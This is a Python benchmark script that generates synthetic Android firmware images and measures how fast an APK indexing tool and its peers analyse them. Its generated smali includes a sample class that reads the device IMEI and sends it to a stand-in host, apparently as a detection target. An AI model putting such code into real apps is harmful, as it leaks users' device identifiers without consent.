#!/usr/bin/env python3
"""Makes an image of 500 packages, indexes it, and asks the index: MB of DEX per second, memory, and what an audit adds.

    python bench/firmware_index.py [--small] [--androguard PYTHON]

The packages are made here: DEX files from the tests' assembler in five sizes, each with texts of its own. With
VUOTO_BENCH_APKS, a folder of real APKs and JARs, a second image is filled with those until it has a fifth as many. androguard
and dexdump are peers for reading the code alone; one that is not installed is left out and named. Seconds of processors count;
those on the clock only where nobody else had the processors.
Run from the repository; results go to standard output, and without --small between the marks in bench/RESULTS.md.
"""

from __future__ import annotations

import argparse
import hashlib
import os
import random
import resource
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import zipfile
import zlib
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path
from typing import NamedTuple

HERE = Path(__file__).resolve().parent
sys.path[:0] = [str(HERE.parent / "tests")]

from firmware.code.assembler import assemble  # noqa: E402 - from the tests, which are no package
from firmware.packages.builders import Tag, make_axml, manifest  # noqa: E402 - likewise

VUOTO = [str(Path(sys.executable).parent / "vuoto"), "firmware"]
PACKAGES = 500
# Classes of a package, and how many of 500 packages are so large: the spread of a phone's system image.
SIZES = ((2400, 12), (900, 60), (250, 128), (60, 200), (8, 100))
# Real packages are a fifth as many: they are larger than most of a phone's.
REAL_SHARE = 5
# Share of the processors that others may have had for seconds on the clock to say anything.
QUIET = 0.05
MARK = "package-number-000000"
BEGIN, END = "<!-- firmware: begin -->", "<!-- firmware: end -->"
ANDROGUARD = """
import sys, time
from loguru import logger
logger.remove()
from androguard.core.analysis.analysis import Analysis
from androguard.core.dex import DEX
data = open(sys.argv[1], "rb").read()
Analysis(DEX(data)).create_xref()
"""
BOOT = Tag("intent-filter", {}, [Tag("action", {"android:name": "android.intent.action.BOOT_COMPLETED"})])
CLASS = """
.class Lcom/example/g{group}/C{c};
.super Ljava/lang/Object;
.implements Ljava/lang/Runnable;
.field static final URL:Ljava/lang/String; = "https://h{host}.example.net/v1/c{c}"
.field name:Ljava/lang/String;
.field count:I
"""
METHOD = """.method static m{m}(Landroid/telephony/TelephonyManager;I)Ljava/lang/String;
  .registers 8
  const-string v0, "key_{key}"
  const/16 v1, {number}
  new-instance v2, Ljava/lang/StringBuilder;
  invoke-direct {{v2}}, Ljava/lang/StringBuilder;-><init>()V
  invoke-virtual {{v2, v0}}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
  move-result-object v2
  add-int/lit8 v1, v1, 3
  if-eqz v1, :end
  invoke-static {{v6, v1}}, Lcom/example/g{group}/C{other};->m{m}(Landroid/telephony/TelephonyManager;I)Ljava/lang/String;
  move-result-object v0
  invoke-virtual {{v2, v0}}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
  {api}
  move-result-object v0
  :end
  const/4 v3, 0
  invoke-virtual {{v0, v3}}, Ljava/lang/String;->charAt(I)C
  move-result v3
  invoke-virtual {{v2}}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
  move-result-object v0
  return-object v0
.end method
"""
SENDER = """
.class Lcom/example/g{group}/Sender;
.super Ljava/lang/Object;
.field static MARK:Ljava/lang/String; = "{mark}"
.method static send(Landroid/telephony/TelephonyManager;)V
  .registers 4
  invoke-virtual {{v3}}, Landroid/telephony/TelephonyManager;->getImei()Ljava/lang/String;
  move-result-object v0
  invoke-static {{v0}}, Lcom/example/g{group}/Sender;->post(Ljava/lang/String;)V
  return-void
.end method
.method static post(Ljava/lang/String;)V
  .registers 4
  new-instance v0, Ljava/net/URL;
  const-string v1, "http://host{group}.example.com:9999/regs"
  invoke-direct {{v0, v1}}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
  invoke-virtual {{v0}}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
  move-result-object v1
  invoke-virtual {{v1, v3, v3}}, Ljava/net/URLConnection;->setRequestProperty(Ljava/lang/String;Ljava/lang/String;)V
  return-void
.end method
"""


def template(group: int, classes: int) -> bytes:
    """A DEX file of so many classes, with a text that is replaced in each package."""
    rng = random.Random(group)
    usual = "invoke-virtual {v0}, Ljava/lang/String;->toLowerCase()Ljava/lang/String;"
    rare = "invoke-virtual {v6}, Landroid/telephony/TelephonyManager;->getNetworkOperator()Ljava/lang/String;"
    parts = [SENDER.format(group=group, mark=MARK)]
    for c in range(classes):
        parts.append(CLASS.format(group=group, c=c, host=rng.randrange(97)))
        parts += [
            METHOD.format(
                group=group,
                m=m,
                key=rng.randrange(20_000),
                number=rng.randrange(300),
                other=rng.randrange(classes),
                api=usual if rng.random() < 0.995 else rare,
            )
            for m in range(12)
        ]
    return assemble("".join(parts))


def marked(dex: bytes, number: int) -> bytes:
    """The file with a text of its own, and its checksums."""
    changed = dex.replace(MARK.encode(), f"package-number-{number:06}".encode())
    changed = changed[:12] + hashlib.sha1(changed[32:], usedforsecurity=False).digest() + changed[32:]
    return changed[:8] + struct.pack("<I", zlib.adler32(changed[12:])) + changed[12:]


def packages(count: int) -> Iterator[tuple[str, bytes, int]]:
    """Path, bytes and bytes of DEX of each package."""
    number = 0
    for group, (classes, of_500) in enumerate(SIZES):
        dex = template(group, classes)
        for _ in range(max(1, of_500 * count // PACKAGES)):
            code = marked(dex, number)
            receiver = Tag("receiver", {"android:name": ".Boot"}, [BOOT] if number % 5 == 0 else [])
            axml = make_axml(manifest(Tag("application", {}, [receiver])))
            folder = ("system/app", "system/priv-app", "product/app")[number % 3]
            whole = BytesIO()
            with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as apk:
                for name, data in (("AndroidManifest.xml", axml), ("classes.dex", code)):
                    apk.writestr(zipfile.ZipInfo(name, (2019, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED, 1)
            yield f"{folder}/P{number:03}/P{number:03}.apk", whole.getvalue(), len(code)
            number += 1


def real_packages(folder: Path, count: int) -> Iterator[tuple[str, bytes, int]]:
    """The APKs and JARs of a folder, again and again until there are enough."""
    found = sorted(path for path in folder.rglob("*") if path.suffix in (".apk", ".jar") and path.stat().st_size > 50_000)
    for number in range(count if found else 0):
        data = found[number % len(found)].read_bytes()
        try:
            with zipfile.ZipFile(BytesIO(data)) as package:
                size = sum(i.file_size for i in package.infolist() if i.filename.endswith(".dex"))
        except zipfile.BadZipFile:
            size = 0
        yield f"system/app/R{number:03}/R{number:03}.apk", data, size


def write_image(path: Path, given: Iterator[tuple[str, bytes, int]]) -> tuple[int, int]:
    """A tar of the packages; how many, and their bytes of DEX."""
    count = code = 0
    with tarfile.open(path, "w") as image:
        properties = b"ro.product.model=Bench\nro.build.version.security_patch=2019-02-01\n"
        for name, data, size in [("system/build.prop", properties, 0)]:
            add(image, name, data)
            code += size
        for name, data, size in given:
            add(image, name, data)
            count, code = count + 1, code + size
    return count, code


def add(image: tarfile.TarFile, name: str, data: bytes) -> None:
    """One file."""
    info = tarfile.TarInfo(name)
    info.size = len(data)
    image.addfile(info, BytesIO(data))


class Memory(threading.Thread):
    """The memory of a process and its children, shared pages counted once, at its most."""

    def __init__(self, process: int) -> None:
        super().__init__(daemon=True)
        self.process, self.most, self.going = process, 0, True

    def run(self) -> None:
        """Looks ten times a second."""
        while self.going:
            children = Path(f"/proc/{self.process}/task/{self.process}/children")
            try:
                ids = [str(self.process), *children.read_text().split()]
                self.most = max(self.most, sum(map(self.of, ids)))
            except OSError:
                pass
            time.sleep(0.1)

    def of(self, process: str) -> int:
        """Proportional set size in kB."""
        text = Path(f"/proc/{process}/smaps_rollup").read_text()
        return next(int(line.split()[1]) for line in text.splitlines() if line.startswith("Pss:"))


class Measured(NamedTuple):
    """What a command took."""

    wall: float
    """Seconds on the clock."""

    cpu: float
    """Seconds of processors, of it and all its processes."""

    others: float
    """Seconds of processors that everybody else took meanwhile."""

    peak: float
    """MB at most."""

    out: str
    """What was printed."""


def busy() -> float:
    """Seconds of processors that all programs of this machine took since it began."""
    names = ("user", "nice", "system", "idle", "iowait", "irq", "softirq", "steal")
    numbers = Path("/proc/stat").read_text().split("\n", 1)[0].split()[1:]
    ticks = dict(zip(names, map(int, numbers), strict=False))
    return sum(number for name, number in ticks.items() if name not in ("idle", "iowait")) / os.sysconf("SC_CLK_TCK")


def run(command: list[str]) -> Measured:
    """Runs it."""
    before, busy_before = resource.getrusage(resource.RUSAGE_CHILDREN), busy()
    begin = time.perf_counter()
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    memory = Memory(process.pid)
    memory.start()
    out, err = process.communicate()
    wall = time.perf_counter() - begin
    memory.going = False
    memory.join()
    if process.returncode:
        raise SystemExit(f"{' '.join(command)} failed: {err[-2000:]}")
    # Of processes that were waited for, and of those that they waited for: the workers are among them.
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
    return Measured(wall, cpu, max(0.0, busy() - busy_before - cpu), memory.most / 1024, out)


def row(name: str, code: int, took: Measured) -> str:
    """One line of the table."""
    megabytes = code / 1e6
    per_core = megabytes / took.cpu
    quiet = took.others <= QUIET * took.wall * (os.cpu_count() or 1)
    clock = f"{megabytes / took.wall:.0f}" if quiet else "–"
    times = f"{took.wall:.1f} | {took.cpu:.1f} | {per_core:.0f} | {2 * per_core:.0f} | {clock}"
    return f"| {name} | {megabytes:,.0f} | {times} | {took.peak:,.0f} |"


def index_rows(title: str, image: Path, code: int, folder: Path) -> list[str]:
    """Without a cache, with an empty one, and with a full one."""
    target, cache = folder / "build.vfx", folder / f"cache-{image.stem}"
    command = [*VUOTO, "index", str(image), "-o", str(target)]
    rows = [row(f"{title}, cold", code, run([*command, "--no-cache"]))]
    first = target.read_bytes()
    run([*command, "--cache", str(cache)])
    rows.append(row(f"{title}, nothing changed", code, run([*command, "--cache", str(cache)])))
    if target.read_bytes() != first:
        raise SystemExit("the cache changed the index")
    rows.append(f"| the index of it: {len(first) / 1e6:.1f} MB | | | | | | | |")
    return rows


ASK = """
import sys, time
begin = time.perf_counter()
from pathlib import Path
from vuoto.cli.firmware._opening import opened_index
index = opened_index(Path(sys.argv[1]))
words = [f"h{n}.example.net" for n in range(97)] + [f"key_{n}" for n in range(100)] + ["example.com", "regs", "vnet.cn"]
held = index.mentions(words)
index.reads_of("imei"), index.packages()
few = index.read(sorted({number for word in words[-3:] for number in held[word][:2]})[:5])
print(f"{time.perf_counter() - begin:.3f} {len(index)} {len(few.packages)}")
"""


def ask_rows(target: Path) -> list[str]:
    """What a question costs, interpreter and imports not counted but those of reading the index."""
    took = run([sys.executable, "-c", ASK, str(target)])
    seconds, count, few = took.out.split()
    asked = f"200 words, readers of an IMEI, and {few} of its {count} packages as facts"
    return [f"Asking the index of what is made here for {asked}: {seconds} s, {took.peak:,.0f} MB."]


def peer_rows(androguard: str | None, folder: Path) -> list[str]:
    """Reading the largest DEX file alone."""
    path = folder / "classes.dex"
    path.write_bytes(template(0, SIZES[0][0]))
    size = path.stat().st_size
    ours = "import sys; from vuoto.firmware.code import examine, read_dexes; examine(read_dexes(open(sys.argv[1], 'rb').read()))"
    rows = [row("one DEX file, Vuoto, all analyses", size, run([sys.executable, "-c", ours, str(path)]))]
    if dexdump := shutil.which("dexdump"):
        rows.append(row("one DEX file, dexdump -d", size, run([dexdump, "-d", "-o", os.devnull, str(path)])))
    else:
        print("dexdump is left out: not installed", file=sys.stderr)
    if androguard:
        rows.append(row("one DEX file, androguard, cross references", size, run([androguard, "-c", ANDROGUARD, str(path)])))
    else:
        print("androguard is left out: not given", file=sys.stderr)
    return rows


def main() -> None:
    """Make, measure, write."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--small", action="store_true", help="a tenth of it, not written into RESULTS.md")
    parser.add_argument("--androguard", metavar="PYTHON", help="an interpreter that has androguard")
    given = parser.parse_args()
    count = PACKAGES // 10 if given.small else PACKAGES
    load = os.getloadavg()[0]
    lines = [f"### Firmware: {count} packages", ""]
    lines += ["| what | MB of DEX | seconds | processor seconds | MB/s, one core | MB/s, two cores | MB/s, clock | MB at most |"]
    lines += ["|---|--:|--:|--:|--:|--:|--:|--:|"]
    with tempfile.TemporaryDirectory(prefix="vuoto-bench-") as name:
        folder = Path(name)
        image = folder / "made.tar"
        _, code = write_image(image, packages(count))
        lines += index_rows("made here", image, code, folder)
        asked = ask_rows(folder / "build.vfx")
        image.unlink()
        if own := os.environ.get("VUOTO_BENCH_APKS"):
            image = folder / "real.tar"
            _, code = write_image(image, real_packages(Path(own), count // REAL_SHARE))
            lines += index_rows("real packages", image, code, folder)
        lines += peer_rows(given.androguard, folder)
    lines += [
        "",
        *asked,
        "",
        "“One core” and “two cores” are MB of DEX by seconds of processors, whatever else the machine did: its load was",
        f"{load:.1f} before and {os.getloadavg()[0]:.1f} after, on {os.cpu_count()} cores, and a shared core makes them dearer.",
        f"“Clock” is told of runs in which everybody else had less than {QUIET:.0%} of the processors.",
        "",
    ]
    text = "\n".join(lines)
    print(text)
    if not given.small:
        results = HERE / "RESULTS.md"
        whole = results.read_text()
        head = whole.partition(BEGIN)[0].rstrip() + "\n\n"
        rest = whole.partition(END)[2] if END in whole else "\n"
        results.write_text(f"{head}{BEGIN}\n{text}{END}{rest}")


if __name__ == "__main__":
    main()
